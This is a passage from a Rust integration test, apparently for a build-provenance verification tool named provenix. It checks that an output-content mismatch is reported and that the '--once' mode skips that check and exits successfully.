        findings(&report).into_iter().filter(|(k, _, _)| k != "insecure-url").map(|(k, p, _)| (k, p)).collect();
    assert_eq!(errors, BTreeSet::from([("output-content-mismatch".to_owned(), b.src_out.clone())]), "{report:#}");
    // --once trades exactly this check for speed.
    let o = provenix(h.root(), &["--json", "verify", "--once", &b.drv]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}
